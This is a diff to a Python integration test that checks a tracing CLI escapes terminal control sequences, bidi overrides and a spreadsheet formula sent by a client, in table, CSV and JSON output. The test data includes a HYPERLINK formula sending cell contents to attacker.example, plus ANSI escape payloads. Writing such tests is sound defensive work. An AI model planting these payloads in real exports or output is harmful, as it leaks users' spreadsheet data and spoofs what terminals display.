@@ -14,7 +14,7 @@ import time
 import pytest
 
 from tests.conftest import REPO, ReceiverServer
-from tests.integration.test_api_reads import RUN, SPAN_A, otlp_span, post_spans
+from tests.integration.test_api_reads import MS, RUN, SPAN_A, otlp_span, post_spans
 
 NAME = "\x1b]0;owned\x07\x1b[2J\x9b31mrun\u202eevil"
 SERVICE = '=HYPERLINK("http://attacker.example/?"&A1,"click me")'
@@ -42,10 +42,10 @@ def hostile_run(receiver: ReceiverServer) -> None:
     post_spans(
         receiver,
         otlp_span(RUN, None, NAME, t0, note="\x1b[8mhidden\u202e"),
-        otlp_span(SPAN_A, RUN, "\x1b]0;child\x07", t0 + 1000),
+        otlp_span(SPAN_A, RUN, "\x1b]0;child\x07", t0 + 1 * MS),
         service=SERVICE,
     )
-    post_spans(receiver, otlp_span(OTHER_RUN, None, "plain", t0 - 1000), service=ESCAPING_SERVICE)
+    post_spans(receiver, otlp_span(OTHER_RUN, None, "plain", t0 - 10**9), service=ESCAPING_SERVICE)
 
 
 @pytest.mark.usefixtures("hostile_run")
@@ -65,7 +65,8 @@ def test_table_and_show_escape_what_a_client_sent(database_url: str) -> None:
 def test_csv_neutralises_the_formula_and_json_keeps_the_text(database_url: str) -> None:
     out = glia(database_url, "runs", "--format", "csv")
     assert not any(c in out for c in RAW), repr(out)
-    row, other = list(csv.DictReader(io.StringIO(out)))
+    by_id = {r["run_id"]: r for r in csv.DictReader(io.StringIO(out))}
+    row, other = by_id[RUN], by_id[OTHER_RUN]
     assert other["program_name"] == "\\x1b[31mred-svc\\x1b]8;;http://x\\x1b\\"
     assert row["program_name"] == "'" + SERVICE
     assert row["run_name"] == "\\x1b]0;owned\\x07\\x1b[2J\\x9b31mrun\\u202eevil"
@@ -75,5 +76,5 @@ def test_csv_neutralises_the_formula_and_json_keeps_the_text(database_url: str) 
         out = glia(database_url, *argv)
         assert not any(c in out for c in RAW), repr(out)
         value = json.loads(out)
-        run = value[0] if isinstance(value, list) else value
+        run = next(r for r in value if r["run_id"] == RUN) if isinstance(value, list) else value
         assert run["run_name"] == NAME and run["program_name"] == SERVICE  # JSON escapes, and loses nothing
